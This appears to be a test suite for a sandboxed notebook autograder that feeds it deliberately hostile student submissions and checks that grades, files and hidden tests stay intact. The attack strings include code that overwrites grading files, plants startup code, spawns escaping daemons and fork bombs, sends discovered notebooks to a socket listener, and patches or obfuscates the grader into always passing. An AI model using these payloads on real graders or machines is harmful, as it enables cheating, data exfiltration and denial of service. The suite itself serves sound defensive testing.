"""A batch of attackers, then honest students: the sandbox and the verdict hold.

Each attacker is the blank release (or stub answers) plus a cell of its own, one attack class each
(on the machine, on the grader in the kernel, and on the verdict: values through the display hook,
hidden tracebacks, cleared outputs, a cell indented as Python cannot parse it, the grader reached
through frames and computed names, output past the limit, references called at run time, dispatch
switched off, the input history printed in encodings); two honest submissions are graded after them
in the same batch. Afterwards: the honest ones keep their marks, the course tree is byte-identical,
no process of the batch is left, nothing arrived at a listener on 127.0.0.1, and no feedback page
quotes a hidden test.
"""

from __future__ import annotations

import base64
import codecs
import contextlib
import copy
import re
import time

import nbformat
import pytest

from grading import course
from tests.instructor.sandboxing import (
    Listener,
    grade_cli,
    read_csv,
    sandbox_processes,
    scratch_course,
    tree_digest,
    write_inbox,
)
from tests.instructor.test_nbgrader_pipeline import (
    A1,
    answered,
    cell_of,
    leaks,
    release_nb,
    secret_lines,
)

STUBS = (  # answers that do nothing right, for attackers that try to fake passing tests
    "def conv2d_naive(x, w, b=None, stride=1, padding=0):\n    return torch.zeros(1)\n"
    "def conv2d_im2col(x, w, b=None, stride=1, padding=0):\n    return torch.zeros(1)\n"
    "def max_pool2d(x, kernel_size, stride=None):\n    return torch.zeros(1)\n"
)
SEARCH = "['/work', '/root', '/home', '/tmp', '/scratch', '/srv', '/opt', '/mnt', '/var']"

ATTACKS = {
    # write into the course, the grading code and the environment; plant start-up code
    "attack_files": (
        "import glob, os, pathlib, utils\n"
        "targets = [pathlib.Path(utils.__file__).parent / 'grading.py']\n"
        f"for root in {SEARCH}:\n"
        "    for name in ['solutions', 'nbgrader_config.py', 'gradebook.db', 'submitted']:\n"
        "        targets += map(pathlib.Path, glob.glob(f'{root}/**/{name}', recursive=True))\n"
        "written = 0\n"
        "for t in targets:\n"
        "    try:\n        t.write_text('owned'); written += 1\n    except OSError:\n        pass\n"
        "for site in [os.path.dirname(os.__file__), os.path.dirname(utils.__file__)]:\n"
        "    try:\n        open(site + '/sitecustomize.py', 'w').write('x')\n        written += 1\n"
        "    except OSError:\n        pass\n"
        "startup = pathlib.Path.home() / '.ipython/profile_default/startup'\n"
        "startup.mkdir(parents=True, exist_ok=True)\n"
        "(startup / '00-x.py').write_text('import torch; torch.allclose = lambda *a, **k: True')\n"
        "print('targets', len(targets), 'written', written)\n"
    ),
    # processes that outlive the kernel: a setsid daemon, a double fork, one holding stdout
    "attack_daemon": (
        "import os, sys\n"
        "os.system('setsid sleep 900 &')\n"
        "os.system('(sleep 900 &) &')\n"
        "if os.fork() == 0:\n    os.setsid()\n    import time; time.sleep(900)\n"
    ),
    # the network, other submissions, shell commands
    "attack_network": (
        "import glob, os, socket\n"
        f"found = [p for r in {SEARCH} for p in glob.glob(r + '/**/*.ipynb', recursive=True)]\n"
        "os.system('id > /scratch/id.txt')\n"
        "sent = 0\n"
        "for host in ['127.0.0.1', 'localhost', '::1']:\n"
        "    try:\n"
        "        socket.create_connection((host, PORT), timeout=2).sendall(repr(found).encode())\n"
        "        sent += 1\n"
        "    except OSError:\n        pass\n"
        "print('notebooks seen', len(found), 'sent', sent)\n"
    ),
    # print each cell the kernel runs (hidden tests included), and the input history at the end
    "attack_echo": (
        "get_ipython().events.register('post_run_cell', lambda r: print(r.info.raw_cell))\n"
    ),
    # replace the grader object with one whose checks always pass
    "attack_grader": STUBS
    + (
        "class _Yes:\n"
        "    def __getattr__(self, name):\n        return lambda *a, **k: True\n"
        "    def quiet(self):\n        import contextlib; return contextlib.nullcontext()\n"
        "GRADER = _Yes()\n"
    ),
    # patch the grader's class, its module and the functions the checks use
    "attack_patch": STUBS
    + (
        "import utils.grading\n"
        "utils.grading.Grader.expect_close = lambda *a, **k: None\n"
        "utils.grading.Grader.verify = lambda self: None\n"
        "torch.allclose = lambda *a, **k: True\n"
    ),
    # the same, hidden from a reader: strings, builtins and namespaces as dictionaries
    "attack_obfuscated": STUBS
    + (
        "run = getattr(__builtins__, 'ex' + 'ec')\n"
        "run('GRADER.expect_close = lambda *a, **k: None')\n"
        "vars(torch)['allclose'] = lambda *a, **k: True\n"
    ),
    # make every later cell, tests included, a no-op
    "attack_hooks": STUBS
    + ("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"),
    # use up memory, processes, disk and output
    "attack_exhaust": (
        "import os, time\n"
        "try:\n    hog = bytearray(64 * 2**30)\nexcept MemoryError:\n    print('no memory')\n"
        "for _ in range(500):\n"
        "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
        "    if pid == 0:\n        time.sleep(900); os._exit(0)\n"
        "try:\n"
        "    with open('/scratch/fill', 'wb') as f:\n"
        "        for _ in range(4096):\n            f.write(b'0' * 2**20)\n"
        "except OSError:\n    print('disk full')\n"
        "for _ in range(300000):\n    print('spam' * 20)\n"
    ),
}

# The classes of attack on the verdict itself: each would have scored on a grader that reads the
# kernel's outputs or runs the hidden tests in the kernel (a blank release, plus the attack).
VERDICT_ATTACKS = {
    # a value through the display hook before every cell: nbgrader read it as partial credit
    "attack_displayhook": STUBS
    + (
        "ip = get_ipython()\n"
        "ip.events.register('pre_run_cell', lambda *a: ip.displayhook(-1.0))\n"
        "ip.events.register('post_run_cell', lambda *a: ip.displayhook('full marks'))\n"
    ),
    # tracebacks hidden and outputs cleared, reached through computed names
    "attack_quiet_errors": STUBS
    + (
        "import IPython.display as d\n"
        "ip = get_ipython()\n"
        "setattr(ip, 'show' + 'traceback', lambda *a, **k: None)\n"
        "ip.events.register('post_run_cell', lambda *a: getattr(d, 'clear_' + 'output')())\n"
    ),
    # a cell indented by four spaces: Python cannot parse it as written, IPython dedents it
    "attack_indented": "    import torch\n    torch.allclose = lambda *a, **k: True\n"
    "    torch.Tensor.__eq__ = lambda *a, **k: True\n",
    # the grader reached through a frame and an alias with computed names, its checks replaced
    "attack_frames": STUBS
    + (
        "import sys\n"
        "frame = getattr(sys, '_get' + 'frame')(0)\n"
        "g = frame.f_globals['GRA' + 'DER']\n"
        "for name in ['expect_close', 'expect_true', 'expect_tensor', 'verify']:\n"
        "    setattr(type(g), name, lambda *a, **k: None)\n"
    ),
    # more than the output limit in the first cell: the tests' errors were dropped with the rest
    "attack_flood": "print('x' * (5 * 2**20))\n",
    # the references a grader registered in the kernel, called by the answers
    "attack_references": (
        "def conv2d_naive(*args, **kwargs):\n"
        "    return GRADER.references['conv2d_naive'](*args, **kwargs)\n"
        "def max_pool2d(*args, **kwargs):\n"
        "    return getattr(GRADER, 'refer' + 'ences')['max_pool2d'](*args, **kwargs)\n"
    ),
    # PyTorch's own convolution with torch-function dispatch off: an empty call trace
    "attack_dispatch": (
        "import torch.nn.functional as F\n"
        "def conv2d_naive(x, w, b=None, stride=1, padding=0):\n"
        "    with torch._C.DisableTorchFunction():\n"
        "        return F.conv2d(x, w, b, stride=stride, padding=padding)\n"
    ),
}
ENCODED_ECHO = (  # the whole input history, printed in encodings a redaction does not read
    "import base64, codecs, torch\n"
    "history = '\\n'.join(In)\n"
    "print(history)\n"
    "print(history.encode().hex())\n"
    "print(base64.b64encode(history.encode()).decode())\n"
    "print(codecs.encode(history, 'rot13'))\n"
    "print(history[::-1])\n"
    "print(' '.join(history))\n"
    "print(torch.tensor([ord(c) for c in history]).tolist())\n"
)
ATTACKS.update(VERDICT_ATTACKS)


def attacker(name: str, port: int):
    """The blank release with the attack in a cell the student added after the grader."""
    nb = release_nb()
    code = ATTACKS[name].replace("PORT", str(port))
    at = nb.cells.index(cell_of(nb, "grader")) + 1
    nb.cells.insert(at, nbformat.v4.new_code_cell(code))
    if name == "attack_echo":  # and the whole input history printed by the last cell, encoded
        nb.cells.append(nbformat.v4.new_code_cell(ENCODED_ECHO))
    return nb


@pytest.fixture(scope="module")
def hostile(sandboxed, tmp_path_factory):
    root = scratch_course(tmp_path_factory.mktemp("hostile-course"))
    listener = Listener()
    subs = {name: attacker(name, listener.port) for name in ATTACKS}
    subs["zz_honest_reference"] = answered(A1)
    partial = answered(A1, ["conv2d_naive", "max_pool2d"])
    subs["zz_honest_partial"] = copy.deepcopy(partial)
    inbox = write_inbox(root, subs)
    protected = [root / p for p in ("grading", "solutions", "assignments", "nbgrader_config.py")]
    protected += [course.ROOT / "utils", course.ROOT / "grading", course.ROOT / "solutions"]
    before = tree_digest(*protected)
    started = time.perf_counter()
    try:
        result = grade_cli(root, A1, "--submissions", str(inbox), "--jobs", "2",
                           "--cell-timeout", "60", "--timeout", "300")  # fmt: skip
        seconds = time.perf_counter() - started
        time.sleep(1)
    finally:
        listener.close()
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    print(result.stdout[-4000:], f"\nhostile batch of {len(subs)} graded in {seconds:.0f} s")
    return root, read_csv(root / "grades" / f"{A1}.csv"), before, tree_digest(*protected), listener


def test_honest_students_graded_after_the_attackers_keep_their_marks(hostile):
    _, rows, *_ = hostile
    assert float(rows["zz_honest_reference"]["score"]) == 90.0
    assert float(rows["zz_honest_partial"]["score"]) == 25.0
    assert rows["zz_honest_reference"]["notes"] == ""


def test_the_course_tree_is_byte_identical_afterwards(hostile):
    _, _, before, after, _ = hostile
    assert after == before


def test_no_process_of_the_batch_is_left():
    assert sandbox_processes() == []


def test_nothing_arrives_at_a_listener_on_loopback(hostile):
    *_, listener = hostile
    assert listener.connections == 0 and listener.received == []


def test_no_feedback_page_quotes_a_hidden_test(hostile):
    root, *_ = hostile
    pages = sorted((root / "feedback").rglob("*.html"))
    assert len(pages) == len(ATTACKS) + 2
    assert leaks(root / "feedback", A1, kinds=("hidden",)) == []
    for page in pages:  # nor in any encoding of what a cell printed
        text = page.read_text(errors="ignore")
        assert decoded_leaks(text) == [], page


def test_the_kernels_input_history_holds_no_hidden_test(hostile):
    root, *_ = hostile
    nb = nbformat.read(course.paths(root).autograded("attack_echo", A1), 4)
    printed = "".join(o.get("text", "") for o in nb.cells[-1].outputs)
    assert "GRADER.verify()" in printed  # the history was printed: the visible tests are in it
    hidden = {line for line in secret_lines(A1, ("hidden",)) if len(line) > 12}
    assert hidden and not [line for line in hidden if line in printed]


def decoded_leaks(text: str) -> list[str]:
    """Hidden-test lines found in ``text`` read as hex, base64, rot13, reversed, spaced out or
    as character codes."""
    readings = [text, codecs.decode(text, "rot13"), text[::-1], text.replace(" ", "")]
    for run in re.findall(r"[0-9a-f]{40,}", text):
        readings.append(bytes.fromhex(run[: len(run) // 2 * 2]).decode(errors="ignore"))
    for run in re.findall(r"[A-Za-z0-9+/]{40,}={0,2}", text):
        with contextlib.suppress(ValueError):
            readings.append(base64.b64decode(run + "=" * (-len(run) % 4)).decode(errors="ignore"))
    for run in re.findall(r"\[(?:\d+, )+\d+\]", text):
        readings.append("".join(chr(int(n)) for n in re.findall(r"\d+", run) if int(n) < 0x110000))
    hidden = [line for line in secret_lines(A1, ("hidden",)) if len(line) > 12]
    squeezed = [line.replace(" ", "") for line in hidden]
    return [line for line, tight in zip(hidden, squeezed, strict=True)
            if any(line in r or tight in r for r in readings)]  # fmt: skip


@pytest.mark.parametrize("name", ["attack_grader", "attack_patch", "attack_obfuscated",
                                  "attack_hooks"])  # fmt: skip
def test_tampering_scores_no_more_than_the_blank_release_and_is_reported(hostile, name):
    _, rows, *_ = hostile
    assert float(rows[name]["score"]) == 0.0
    assert "tampering" in rows[name]["notes"]


@pytest.mark.parametrize("name", sorted(VERDICT_ATTACKS))
def test_attacks_on_the_verdict_score_no_more_than_the_blank_release(hostile, name):
    _, rows, *_ = hostile
    assert float(rows[name]["score"]) == 0.0, rows[name]
    feedback = hostile[0] / "feedback" / name / A1 / f"{A1}.html"
    assert feedback.exists()


def test_a_convolution_with_dispatch_switched_off_costs_its_part(hostile):
    _, rows, *_ = hostile
    assert float(rows["attack_dispatch"]["test_conv2d_naive"]) == 0.0


def test_attacks_on_the_machine_cost_only_the_attacker(hostile):
    _, rows, *_ = hostile
    for name in ("attack_files", "attack_daemon", "attack_network", "attack_exhaust"):
        assert float(rows[name]["score"]) == 0.0, name
    assert rows["attack_exhaust"]["notes"]  # what stopped it is reported
